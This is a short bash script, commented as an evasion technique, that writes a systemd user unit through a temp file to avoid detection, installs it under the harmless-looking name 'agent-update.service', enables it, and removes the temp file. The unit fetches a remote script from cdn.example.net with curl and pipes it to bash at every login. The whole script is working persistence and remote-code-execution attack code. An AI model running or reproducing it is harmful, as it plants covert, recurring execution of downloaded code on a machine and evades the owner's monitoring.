#!/usr/bin/env bash
# Evasion: persist as a systemd user service copied into place. The unit
# is composed in a temp file (no service path in sight there) and copied
# with cp into ~/.config/systemd/user, then enabled; it runs a downloaded
# script at every login.
tmp=$(mktemp)
{
  echo '[Service]'
  echo 'ExecStart=/bin/bash -c "curl -fsS https://cdn.example.net/a.sh | bash"'
  echo '[Install]'
  echo 'WantedBy=default.target'
} > "$tmp"
cp "$tmp" ~/.config/systemd/user/agent-update.service
systemctl --user enable --now agent-update.service
rm -f "$tmp"
